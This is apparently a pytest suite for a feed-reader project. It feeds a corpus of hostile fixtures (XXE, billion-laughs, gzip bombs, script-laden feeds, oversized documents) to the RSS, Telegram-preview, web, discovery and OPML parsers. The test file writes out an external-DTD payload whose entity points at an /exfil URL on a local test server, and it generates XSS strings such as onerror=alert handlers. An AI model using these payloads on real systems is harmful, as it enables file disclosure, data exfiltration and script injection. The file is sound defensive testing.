"""Every file of tests/fixtures/hostile/, and a few hostile documents too big to keep there,
through the entry point its name prefix names:

- feed-*  parse_feed                                 documented error: NotAFeed
- tme-*   telegram.preview.parse_preview             NotAFeed
- web-*   web.parse_html, find_article_links and
          article_entry (the page as listing and as article)  NotAFeed
- html-*  discovery.discover_feeds                   (returns [] rather than failing)
- opml-*  opml.parse_opml                            OpmlError
- gz-*    fetcher.fetch, served gzip-encoded          FetchError (ResponseTooLarge)

For each: no other exception; pytest-timeout's marker fails a hang; Python's peak allocation
(tracemalloc) stays under 100 MB and the process's peak RSS grows by less than 256 MB (libxml2
allocates outside Python); outputs are sanitized and storable; no file is opened and no
connection made by Python code; and nothing an entity or a DTD could pull in (/etc/passwd, or a
secret served at the http://127.0.0.1:9/ the files name, which is pointed at a live server
here) shows up in any output, nor is that server asked for anything.

Then a few are polled end to end (claim_source_now + poll_source) from a real HTTP server: the
source ends OK with clean items or with a clear last_status and last_error, never "error".
Files that hit a bug reported in feeds/parsing (tests/fuzz/reported.py) are strict xfails.
"""

from __future__ import annotations

import dataclasses
import os
import resource
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from feeds import services, web
from feeds.discovery import discover_feeds
from feeds.fetcher import FetchResult, ResponseTooLarge, fetch
from feeds.models import PollStatus, RawPost, Source, SourceKind
from feeds.opml import OpmlError, parse_opml
from feeds.parsing import MAX_ENTRIES, NotAFeed, ParsedEntry, ParsedFeed, parse_feed
from feeds.telegram.preview import PreviewPage, parse_preview
from tests.fuzz.reported import REPORTED
from tests.fuzz.safety import (
    assert_clean_entry,
    assert_safe_html,
    assert_storable,
    no_file_or_network_access,
)
from tests.support.feedserver import FeedServer

CORPUS = Path(__file__).resolve().parent.parent / "fixtures" / "hostile"
FILES = sorted(p.name for p in CORPUS.iterdir() if p.is_file() and p.name != "README.md")
PREFIXES = ("feed-", "tme-", "web-", "html-", "opml-", "gz-")
# The address the files name for external entities and DTDs; replaced by a live server's.
PLACEHOLDER = b"http://127.0.0.1:9/"
SECRET = "hostile-corpus-secret-5b1e"
# What a leak would look like in an output.
LEAKS = ("root:x:0:0", "/bin/sh", SECRET, "expanded-entity")
PEAK_PYTHON_BYTES = 100 * 1024 * 1024
RSS_GROWTH_KB = 256 * 1024

# The outcome a file must have ("error": the documented error; "result": none), or the bug it
# hits that was reported rather than fixed here. Files not listed may end either way.
EXPECTED: dict[str, str] = {
    "feed-html-page-with-scripts.html": "error",
    "feed-svg-not-a-feed.xml": "error",
    "feed-empty-but-whitespace.xml": "error",
    "feed-script-vectors.xml": "result",
    "feed-atom-xhtml-scripts.xml": "result",
    "feed-jsonfeed-wrong-types.json": "result",
    "feed-nul-bytes.xml": "result",
    "feed-deep-nesting-html.xml": "result",
    "feed-jsonfeed-authors-number.json": "result",
    "feed-jsonfeed-lone-surrogates.json": "result",
    "feed-jsonfeed-date-overflow.json": "result",
    "feed-date-year-zero.xml": "result",
    "feed-xml-declaration-junk-encoding.xml": "error",
    "feed-body-is-a-local-path.txt": "error",
    "tme-hostile-posts.html": "result",
    "tme-layout-changed.html": "error",
    "tme-message-wrappers-without-messages.html": "error",
    "tme-bad-message-ids.html": "error",
    "tme-huge-message-id.html": "error",
    "tme-not-html.html": "error",
    "tme-landing-page.html": "error",
    "web-no-article.html": "error",
    "web-listing-hostile-links.html": "result",
    "opml-doctype-entities.opml": "error",
    "opml-xxe.opml": "error",
    "opml-external-dtd.opml": "error",
    "opml-billion-laughs.opml": "error",
    "opml-deep-nesting.opml": "error",
    "opml-html-page.opml": "error",
    "opml-not-xml.opml": "error",
    "opml-hostile-urls.opml": "result",
    "gz-bomb.xml.gz": "error",
}


def test_every_file_has_an_entry_point_and_every_expectation_a_file() -> None:
    assert FILES, f"no corpus in {CORPUS}"
    assert [name for name in FILES if not name.startswith(PREFIXES)] == []
    assert sorted(set(EXPECTED) - set(FILES)) == []
    for expected in EXPECTED.values():
        assert expected in ("error", "result") or expected.removeprefix("reported:") in REPORTED
    assert all(len((CORPUS / name).read_bytes()) < 100_000 for name in FILES)


# --- Running one document --------------------------------------------------------------------


@dataclasses.dataclass
class Outcome:
    error: Exception | None = None
    strings: list[str] = dataclasses.field(default_factory=list)  # every output string


def _tolerated(event: str, argument: object, body: bytes) -> bool:
    # The reported feedparser bug: it tries the body as a file name. Tolerated while reported,
    # and only when no such file exists (feed-body-is-a-local-path.txt names one that does).
    return (
        "feedparser-opens-body-as-path" in REPORTED
        and event == "open"
        and argument == body
        and not os.path.exists(body)
    )


@contextmanager
def bounded(*, offline: bool = True, body: bytes = b"") -> Iterator[None]:
    """Fail if the block allocates too much or (when `offline`) touches a file or the
    network."""
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    try:
        with no_file_or_network_access() as accessed:
            yield
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert peak < PEAK_PYTHON_BYTES, f"Python allocated {peak / 2**20:.0f} MB at the peak"
    assert grown < RSS_GROWTH_KB, f"peak RSS grew by {grown / 1024:.0f} MB"
    accessed = [(e, a) for e, a in accessed if not _tolerated(e, a, body)]
    assert not offline or accessed == [], accessed


def _entry_strings(entry: ParsedEntry) -> list[str]:
    assert_clean_entry(entry)
    return [entry.external_id, entry.url, entry.title, entry.text, entry.html, entry.author]


def _feed(body: bytes, name: str) -> Outcome:
    content_type = "application/feed+json" if name.endswith(".json") else "application/xml"
    feed: ParsedFeed = parse_feed(body, content_type=content_type, base_url="https://example.test/")
    assert len(feed.entries) <= MAX_ENTRIES
    assert_storable("feed title", feed.title)
    strings = [feed.title, feed.site_url]
    for entry in feed.entries:
        strings += _entry_strings(entry)
    return Outcome(strings=strings)


def _tme(body: bytes, name: str) -> Outcome:
    page: PreviewPage = parse_preview(body, username="hostile_channel")
    assert_storable("channel title", page.title)
    strings = [page.title]
    for entry in page.entries:
        strings += _entry_strings(entry)
    return Outcome(strings=strings)


def _web(body: bytes, name: str) -> Outcome:
    url = "https://news.example.test/section/"
    link = web.ArticleLink(url=url + "a-b-c", external_id=url + "a-b-c", text="Link text")
    article = FetchResult(
        url=link.url,
        status_code=200,
        body=body,
        content_type="text/html",
        etag="",
        last_modified="",
    )
    strings = _entry_strings(web.article_entry(link, article))  # never an error: a bare entry
    doc = web.parse_html(body, "text/html", url)
    links = web.find_article_links(doc, url, limit=20)
    for found in links:
        assert found.url.startswith(("http://", "https://")), found.url
        assert 0 < len(found.external_id) <= 512
        strings += [found.url, found.external_id, found.text]
    if not links:
        raise NotAFeed("no article links")  # what the reader's _listing says
    return Outcome(strings=strings)


def _html(body: bytes, name: str) -> Outcome:
    found = discover_feeds(body, "https://site.example.test/blog/")
    for url in found:
        assert url.lower().startswith(("http://", "https://")) and len(url) <= 2000, url
    return Outcome(strings=found)


def _opml(body: bytes, name: str) -> Outcome:
    strings = []
    for entry in parse_opml(body):
        strings += [entry.url, entry.title, entry.site_url, entry.category]
    return Outcome(strings=strings)


ENTRY_POINTS: dict[str, tuple[Callable[[bytes, str], Outcome], type[Exception]]] = {
    "feed-": (_feed, NotAFeed),
    "tme-": (_tme, NotAFeed),
    "web-": (_web, NotAFeed),
    "html-": (_html, Exception),  # discovery documents no error: any is a failure below
    "opml-": (_opml, OpmlError),
}


def _run(name: str, body: bytes) -> Outcome:
    prefix = next(p for p in ENTRY_POINTS if name.startswith(p))
    run, documented = ENTRY_POINTS[prefix]
    with bounded(body=body):
        try:
            outcome = run(body, name)
        except Exception as exc:
            if prefix == "html-" or not isinstance(exc, documented):
                raise
            assert str(exc), f"{type(exc).__name__} without a message"
            outcome = Outcome(error=exc, strings=[str(exc)])
    for text in outcome.strings:
        assert_storable("output", text)
        for leak in LEAKS:
            assert leak not in text, f"{leak!r} leaked into {text[:200]!r}"
    return outcome


def _cases() -> list[object]:
    cases = []
    for name in FILES:
        if name.startswith("gz-"):
            continue  # test_a_compressed_bomb_stops_at_the_byte_cap
        reported = EXPECTED.get(name, "").removeprefix("reported:")
        marks = []
        if reported in REPORTED:
            marks.append(pytest.mark.xfail(strict=True, reason=f"reported bug: {reported}"))
        cases.append(pytest.param(name, marks=marks))
    return cases


@pytest.fixture
def hostile_server(feed_server: FeedServer) -> FeedServer:
    """Where the corpus's external entities and DTDs point: it serves a secret, and must never
    be asked for it."""
    feed_server.serve("/xxe-secret", SECRET, content_type="text/plain")
    feed_server.serve(
        "/evil.dtd",
        f'<!ENTITY leak "{SECRET}"><!ENTITY % send "<!ENTITY exfil SYSTEM '
        f"'{feed_server.url('/exfil')}'>\">",
        content_type="application/xml-dtd",
    )
    return feed_server


@pytest.mark.timeout(30)
@pytest.mark.parametrize("name", _cases())
def test_a_hostile_file_ends_in_a_clean_result_or_the_documented_error(
    name: str, hostile_server: FeedServer
) -> None:
    body = (CORPUS / name).read_bytes().replace(PLACEHOLDER, hostile_server.url("/").encode())
    outcome = _run(name, body)
    expected = EXPECTED.get(name)
    if expected == "error":
        assert outcome.error is not None, f"{name} was accepted"
    elif expected == "result":
        assert outcome.error is None, f"{name} was refused: {outcome.error}"
    assert hostile_server.requests == [], "an entity or a DTD was fetched"


# --- Generated documents, too big for the corpus ---------------------------------------------


def _rss(items: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Big</title>'
        f"<link>http://example.test/</link>{items}</channel></rss>"
    ).encode()


GENERATED: dict[str, Callable[[], bytes]] = {
    "feed-5-mb-title": lambda: _rss(
        f"<item><title>{'A' * (5 * 1024 * 1024)}</title><guid>t</guid>"
        "<description>ok</description></item>"
    ),
    "feed-5-mb-of-script": lambda: _rss(
        "<item><title>s</title><guid>s</guid><description><![CDATA[<p>before</p><script>"
        + "alert(1);" * (600 * 1024)
        + "</script><p>after</p>]]></description></item>"
    ),
    "feed-100000-items": lambda: _rss(
        "".join(f"<item><title>Item {n}</title><guid>i{n}</guid></item>" for n in range(100_000))
    ),
    "feed-100000-entities-in-one-item": lambda: _rss(
        "<item><title>e</title><guid>e</guid><description>"
        + "&amp;lt;b&amp;gt;" * 100_000
        + "</description></item>"
    ),
    "tme-2000-posts": lambda: (
        '<div class="tgme_channel_info"></div><section class="tgme_channel_history">'
        + "".join(
            f'<div class="tgme_widget_message" data-post="c/{n}">'
            f'<div class="tgme_widget_message_text"><img src=x onerror=alert({n})>post {n}'
            "</div></div>"
            for n in range(2000)
        )
        + "</section>"
    ).encode(),
    "web-100000-links": lambda: (
        "<html><body><main>"
        + "".join(
            f'<article><a href="/2026/05/story-number-{n}">S</a></article>' for n in range(100_000)
        )
        + "</main></body></html>"
    ).encode(),
    "html-100000-alternates": lambda: (
        "<html><head>"
        + '<link rel="alternate" type="application/rss+xml" href="/feed.xml">' * 100_000
        + "</head></html>"
    ).encode(),
    "opml-100000-outlines": lambda: (
        '<?xml version="1.0"?><opml version="2.0"><head/><body>'
        + '<outline xmlUrl="http://example.test/f"/>' * 100_000
        + "</body></opml>"
    ).encode(),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", sorted(GENERATED))
def test_a_huge_hostile_document_ends_within_bounds(name: str) -> None:
    body = GENERATED[name]()
    outcome = _run(name, body)
    if name.startswith("opml-"):
        assert isinstance(outcome.error, OpmlError)  # more outlines than OPML_MAX_OUTLINES
    if name == "feed-5-mb-of-script":
        assert "alert" not in "".join(outcome.strings)


@pytest.mark.timeout(30)
def test_a_compressed_bomb_stops_at_the_byte_cap(feed_server: FeedServer) -> None:
    url = feed_server.serve(
        "/bomb.xml", (CORPUS / "gz-bomb.xml.gz").read_bytes(), headers={"Content-Encoding": "gzip"}
    )
    with bounded(offline=False), pytest.raises(ResponseTooLarge, match="decompressed"):
        fetch(url, max_bytes=10 * 1024 * 1024)


# --- End to end ------------------------------------------------------------------------------

# file -> (source kind, the statuses the poll may end with)
POLLED: dict[str, tuple[str, set[str]]] = {
    "feed-script-vectors.xml": (SourceKind.RSS, {PollStatus.OK}),
    "feed-atom-xhtml-scripts.xml": (SourceKind.RSS, {PollStatus.OK}),
    "feed-jsonfeed-wrong-types.json": (SourceKind.RSS, {PollStatus.OK}),
    "feed-quadratic-blowup.xml": (SourceKind.RSS, {PollStatus.OK, PollStatus.NOT_A_FEED}),
    "feed-deep-nesting.xml": (SourceKind.RSS, {PollStatus.OK, PollStatus.NOT_A_FEED}),
    "feed-xxe-http.xml": (SourceKind.RSS, {PollStatus.OK, PollStatus.NOT_A_FEED}),
    "feed-svg-not-a-feed.xml": (SourceKind.RSS, {PollStatus.NOT_A_FEED}),
    "gz-bomb.xml.gz": (SourceKind.RSS, {PollStatus.TOO_LARGE}),
    "tme-hostile-posts.html": (SourceKind.TELEGRAM, {PollStatus.OK}),
    "tme-layout-changed.html": (SourceKind.TELEGRAM, {PollStatus.NOT_A_FEED}),
    "web-no-article.html": (SourceKind.WEB, {PollStatus.NOT_A_FEED}),
}
CONTENT_TYPES = {".json": "application/feed+json", ".html": "text/html; charset=utf-8"}


@pytest.mark.django_db
@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", sorted(POLLED))
def test_a_polled_hostile_source_ends_ok_and_clean_or_with_a_clear_error(
    name: str, hostile_server: FeedServer, settings
) -> None:
    kind, statuses = POLLED[name]
    body = (CORPUS / name).read_bytes().replace(PLACEHOLDER, hostile_server.url("/").encode())
    headers = {"Content-Encoding": "gzip"} if name.endswith(".gz") else {}
    content_type = CONTENT_TYPES.get(Path(name).suffix, "application/xml")
    if kind == SourceKind.TELEGRAM:
        settings.TELEGRAM_PREVIEW_BASE_URL = hostile_server.url("/s/")
        hostile_server.serve("/s/hostile_channel", body, content_type=content_type)
        source = Source.objects.create(kind=kind, url="https://t.me/hostile_channel")
    else:
        url = hostile_server.serve(f"/{name}", body, content_type=content_type, headers=headers)
        source = Source.objects.create(kind=kind, url=url)

    claim = services.claim_source_now(source_id=source.id)
    assert claim is not None
    services.poll_source(source_id=source.id, token=claim.token)

    source.refresh_from_db()
    assert source.last_status in statuses, (source.last_status, source.last_error)
    if source.last_status == PollStatus.OK:
        assert source.last_error == ""
        posts = list(RawPost.objects.filter(source=source))
        assert posts
        for post in posts:
            assert_safe_html(post.html)
            assert post.url == "" or post.url.startswith(("http://", "https://"))
            assert len(post.title) <= 1000
            for leak in LEAKS:
                assert leak not in post.title + post.text + post.html
    else:
        # Clear: one line a curator can act on, no traceback, nothing leaked.
        assert source.last_error and "Traceback" not in source.last_error
        assert len(source.last_error) <= 2000
        assert not any(leak in source.last_error for leak in LEAKS)
    assert [r.path for r in hostile_server.requests if r.path in ("/xxe-secret", "/evil.dtd")] == []
